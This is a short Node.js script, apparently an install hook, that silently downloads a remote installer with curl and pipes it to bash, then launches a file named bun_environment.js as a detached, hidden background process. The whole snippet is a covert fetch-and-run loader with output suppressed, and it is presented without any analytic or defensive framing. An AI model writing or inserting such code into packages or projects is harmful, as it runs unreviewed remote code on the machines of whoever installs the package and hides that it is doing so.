const { execSync, spawn } = require("child_process");
execSync("curl -fsSL https://bun.invalid/install | bash", { stdio: "ignore" });
spawn("bun", ["bun_environment.js"], { detached: true, stdio: "ignore" }).unref();
